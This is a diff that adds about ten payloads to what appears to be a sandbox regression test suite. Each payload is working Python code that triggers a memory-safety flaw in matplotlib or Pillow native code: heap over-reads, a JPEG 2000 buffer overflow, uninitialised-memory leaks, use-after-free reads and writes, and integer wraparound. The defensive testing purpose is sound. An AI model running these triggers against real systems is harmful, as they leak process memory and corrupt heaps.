@@ -4109,6 +4109,189 @@ PAYLOADS = [
             sb_io.send(sb_io.ERROR, body)
             os._exit(0)
         """, off={CRASH}, max_ms=5000),
+
+    # review 17 (2026-12-04): matplotlib's and Pillow's native code
+    # review rev17: matplotlib._image.resample reads out_h * out_w points of
+    # what a non-affine transform's inverse returns, whatever its length
+    Payload("mpl-image-resample-short-mesh", """
+        import numpy as np
+        import matplotlib.pyplot as plt
+        from matplotlib.transforms import Transform
+        class ShortMesh(Transform):
+            input_dims = 2
+            output_dims = 2
+            is_affine = False
+            def inverted(self):
+                return ShortMesh()
+            def transform_non_affine(self, values):
+                values = np.asarray(values, dtype=float)
+                if len(values) > 64:        # the resampler's mesh: one point
+                    return values[:1]
+                return values
+        def main():
+            fig = plt.figure(figsize=(20, 20), dpi=100)     # 4e6 pixels, 64 MB read
+            ax = fig.add_axes([0, 0, 1, 1])
+            im = ax.imshow(np.arange(100.0).reshape(10, 10))
+            im.set_transform(ShortMesh() + ax.transData)
+            fig.canvas.draw()
+            return "drawn"
+        """, on={GUARD}, off={CRASH}),
+    Payload("mpl-image-resample-short-mesh-heap-pixels", """
+        import numpy as np
+        import matplotlib.pyplot as plt
+        from matplotlib.transforms import Transform
+        class ShortMesh(Transform):
+            input_dims = 2
+            output_dims = 2
+            is_affine = False
+            def inverted(self):
+                return ShortMesh()
+            def transform_non_affine(self, values):
+                values = np.asarray(values, dtype=float)
+                if len(values) > 64:
+                    return np.array([[1234.0, 0.5]])
+                return values
+        def main():
+            fig = plt.figure(figsize=(4, 4), dpi=100)
+            ax = fig.add_axes([0, 0, 1, 1])
+            ax.set_axis_off()
+            im = ax.imshow(np.arange(4096.0).reshape(1, 4096), interpolation="nearest",
+                           aspect="auto", extent=(0, 400, 0, 400), vmin=0, vmax=4095,
+                           cmap="gray")
+            im.set_transform(ShortMesh() + ax.transData)
+            fig.canvas.draw()
+            # each pixel's grey is a heap double read past the 16-byte mesh
+            px = np.asarray(fig.canvas.buffer_rgba())[..., 0]
+            return np.unique(px).tolist()
+        """, on={GUARD}, off={OK, CRASH}),
+    # review rev17: savefig/imsave pass pil_kwargs to Pillow's save, and
+    # pil_kwargs["format"] picks any writer: Pillow 9.4's JPEG 2000 encoder
+    # with offset=(0, 100) packs a tile of 2**32 - 50 rows into a 10 kB buffer
+    Payload("pil-jpeg2000-offset-through-savefig", """
+        import io
+        import matplotlib.pyplot as plt
+        def main():
+            fig = plt.figure(figsize=(1, 1), dpi=50)
+            fig.add_subplot().plot([1, 2])
+            buf = io.BytesIO()
+            fig.savefig(buf, format="png",
+                        pil_kwargs={"format": "JPEG2000", "offset": (0, 100)})
+            return len(buf.getvalue())
+        """, on={GUARD}, off={CRASH}),
+    Payload("pil-jpeg2000-offset-through-imsave", """
+        import io
+        import numpy as np
+        import matplotlib.pyplot as plt
+        def main():
+            buf = io.BytesIO()
+            plt.imsave(buf, np.zeros((50, 50, 4), np.uint8), format="png",
+                       pil_kwargs={"format": "JPEG2000", "offset": (100, 0)})
+            return len(buf.getvalue())
+        """, on={GUARD}, off={CRASH}),
+    # review rev17: FT2Font's bounding box is uninitialised until set_text();
+    # a font mathtext hands out reports the heap's old bytes (pointers,
+    # strings) as its descent, size and bitmap offset
+    Payload("ft2font-uninitialised-bbox-heap-read", """
+        from matplotlib.font_manager import FontProperties
+        from matplotlib.mathtext import MathTextParser
+        def main():
+            leaked = {}
+            parser = MathTextParser("path")
+            for fontset in ("stix", "cm", "stixsans", "dejavuserif"):
+                prop = FontProperties(math_fontfamily=fontset)
+                for glyph in parser.parse(r"$x\\int\\sum\\mathcal{A}\\mathbb{R}$",
+                                          prop=prop).glyphs:
+                    font = glyph[0]
+                    values = (font.get_descent(), font.get_width_height(),
+                              font.get_bitmap_offset())
+                    if values != (0, (0, 0), (0, 0)):
+                        leaked[fontset + str(glyph[2])] = hex(-values[0])
+            if leaked:
+                raise RuntimeError("uninitialised FT2Font box: %r" % (leaked,))
+            return "clean"
+        """, on={OK}, off={OK, EXCEPTION}),
+    # review rev17: the format check of print_figure looked at format= only;
+    # rcParams["savefig.format"] = "pgf" chose the pgf backend (LaTeX's
+    # temporary directory: mkdir, ended by seccomp)
+    Payload("mpl-savefig-format-from-rcparams", """
+        import io
+        import matplotlib
+        import matplotlib.pyplot as plt
+        def main():
+            fig = plt.figure(figsize=(1, 1), dpi=50)
+            fig.add_subplot().plot([1, 2])      # text: LaTeX's directory
+            matplotlib.rcParams["savefig.format"] = "pgf"
+            buf = io.BytesIO()
+            fig.savefig(buf)
+            return buf.getvalue()[:80].decode()
+        """, on={EXCEPTION, GUARD}, off={SECCOMP, DENIED, EXCEPTION, OK}),
+    # review rev17: imread(BytesIO) lets Pillow identify the data whatever
+    # format= says; EPS is read by Ghostscript on a temporary file
+    Payload("pil-imread-eps-ghostscript", """
+        import io
+        import matplotlib.pyplot as plt
+        def main():
+            eps = b"%!PS-Adobe-3.0 EPSF-3.0\\n%%BoundingBox: 0 0 10 10\\n" + b"\\0" * 100
+            return plt.imread(io.BytesIO(eps), format="jpg").shape
+        """, on={EXCEPTION}, off={EXCEPTION, SECCOMP, DENIED}),
+    # review rev17: FT2Font exports its glyph bitmap through the buffer
+    # protocol; the next, larger text drawn with the same cached font deletes
+    # it: np.asarray(font) of a font from mathtext reads and writes freed heap
+    Payload("ft2font-buffer-use-after-free-write", """
+        import numpy as np
+        import matplotlib.pyplot as plt
+        from matplotlib.font_manager import FontProperties
+        from matplotlib.mathtext import MathTextParser
+        def draw(text, size):
+            fig = plt.figure(figsize=(8, 1), dpi=100)
+            fig.text(0.01, 0.3, text, fontsize=size, family="DejaVu Sans")
+            fig.canvas.draw()
+            plt.close(fig)
+        def main():
+            draw("x" * 40, 12)                  # the font's bitmap: some 4 kB
+            prop = FontProperties(family="DejaVu Sans", math_fontfamily="dejavusans")
+            font = MathTextParser("path").parse("$1$", prop=prop).glyphs[0][0]
+            view = np.asarray(font)             # the bitmap itself, writable
+            draw("x" * 60, 40)                  # a larger bitmap: the old one is deleted
+            view[...] = 0x42                    # written into the freed block
+            for size in range(10, 80, 5):       # glibc finds its lists broken
+                draw("z" * size, size)
+            return list(view.shape)
+        """, on={OK}, off={OK, CRASH}),
+    Payload("ft2font-buffer-read-after-free", """
+        import numpy as np
+        import matplotlib.pyplot as plt
+        from matplotlib.font_manager import FontProperties
+        from matplotlib.mathtext import MathTextParser
+        def draw(text, size):
+            fig = plt.figure(figsize=(8, 1), dpi=100)
+            fig.text(0.01, 0.3, text, fontsize=size, family="DejaVu Sans")
+            fig.canvas.draw()
+            plt.close(fig)
+        def main():
+            draw("x" * 40, 12)
+            prop = FontProperties(family="DejaVu Sans", math_fontfamily="dejavusans")
+            font = MathTextParser("path").parse("$1$", prop=prop).glyphs[0][0]
+            view = np.asarray(font)
+            before = bytes(view.reshape(-1).tolist())
+            draw("x" * 60, 40)
+            for size in range(10, 80, 5):
+                draw("z" * size, size)
+            after = bytes(view.reshape(-1).tolist())
+            if after != before:
+                raise RuntimeError("freed bitmap read: %s" % after[:64].hex())
+            return "unchanged"
+        """, on={OK}, off={OK, EXCEPTION, CRASH}),
+    # review rev17: _check_pixels multiplied the sizes as given; a negative
+    # width passed it, and RendererAgg's native code takes the width modulo
+    # 2**32 (PyArg "I"): a 3000 x 3000 buffer past max_figure_pixels (4e6)
+    Payload("mpl-renderer-negative-width-pixel-limit", """
+        import numpy as np
+        from matplotlib.backends.backend_agg import RendererAgg
+        def main():
+            r = RendererAgg(-(2**32) + 3000, 3000, 72)
+            return list(np.asarray(r.buffer_rgba()).shape)
+        """, on={GUARD, EXCEPTION}, off={OK, GUARD, EXCEPTION}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
